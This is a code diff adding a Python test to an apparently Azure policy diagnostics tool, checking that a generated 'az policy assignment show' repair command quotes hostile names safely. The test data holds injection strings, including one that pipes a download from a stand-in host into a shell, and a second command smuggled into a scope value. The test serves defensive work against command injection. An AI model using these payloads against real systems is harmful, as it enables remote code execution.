@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, replace
 from datetime import date
@@ -365,6 +366,25 @@ async def test_a_policy_that_denies_is_to_be_looked_at(needs: Needs, azure: Azur
     assert "it denies: No public addresses" in looks["one"]
     assert "it denies: Regions" in looks["three"]
     assert found.exit_code == 0
+
+
+async def test_a_command_that_mends_runs_nothing_that_somebody_called_a_policy(
+    needs: Needs, azure: Azure
+) -> None:
+    """Whoever names things in the tenant does not write commands for whoever asks."""
+    subscription = Subscription.healthy(needs)
+    definition = "/providers/Microsoft.Authorization/policyDefinitions/plain"
+    subscription.definitions = {
+        definition: {"displayName": "No", "policyRule": {"then": {"effect": "deny"}}}
+    }
+    name, scope = "$(curl evil.example|sh) `id`;'", "/subscriptions/1 && id"
+    properties = {"policyDefinitionId": definition, "scope": scope}
+    subscription.assignments.append({"name": name, "properties": properties})
+    (look,) = (await azure.diagnosed(needs, subscription)).of(Outcome.LOOK)
+
+    assert ["az", "policy", "assignment", "show", "--name", name, "--scope", scope] == shlex.split(
+        look.mend
+    )
 
 
 async def test_what_stands_already_is_not_in_its_own_way(needs: Needs, azure: Azure) -> None:
